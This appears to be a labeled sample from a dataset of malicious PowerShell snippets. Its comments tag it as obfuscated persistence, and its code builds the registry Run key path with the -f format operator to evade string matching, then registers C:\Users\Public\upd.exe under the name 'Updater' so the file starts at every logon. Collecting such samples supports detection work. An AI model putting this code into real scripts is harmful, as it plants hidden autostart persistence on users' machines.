# description: Builds the Run key path with the -f operator before adding an autostart entry.
# family: persistence
# obfuscated: yes
$k = '{0}:\{1}\{2}\{3}' -f 'HKCU', 'Software\Microsoft', 'Windows\CurrentVersion', 'Run'
Set-ItemProperty -Path $k -Name 'Updater' -Value 'C:\Users\Public\upd.exe'
